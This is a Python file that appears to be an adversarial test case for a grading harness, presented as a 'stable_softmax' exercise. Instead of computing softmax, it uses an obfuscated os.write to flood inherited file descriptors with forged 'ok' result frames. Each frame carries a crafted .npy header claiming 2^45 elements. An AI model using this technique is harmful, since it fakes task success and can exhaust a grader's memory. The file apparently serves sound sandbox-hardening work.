# notebook: 01_stable_softmax
# exercise: stable_softmax
# attack: forged result frames whose .npy header claims 2^45 elements (the parent must not allocate them)
import json
import os
import struct

_w = getattr(os, "wri" + "te")
_npy = (b"\x93NUMPY\x01\x00" + struct.pack("<H", 118)
        + b"{'descr': '<f8', 'fortran_order': False, 'shape': (35184372088832,), }".ljust(117)
        + b"\n" + b"\0" * 64)


def stable_softmax(x):
    for call in range(0, 40):
        h = json.dumps({"type": "result", "call": call, "ok": True, "output": {"kind": "array"},
                        "blob_sizes": [len(_npy)]}).encode()
        for fd in range(3, 40):
            try:
                _w(fd, struct.pack("<I", len(h)) + h + struct.pack("<Q", len(_npy)) + _npy)
            except OSError:
                pass
    return np.zeros_like(x)
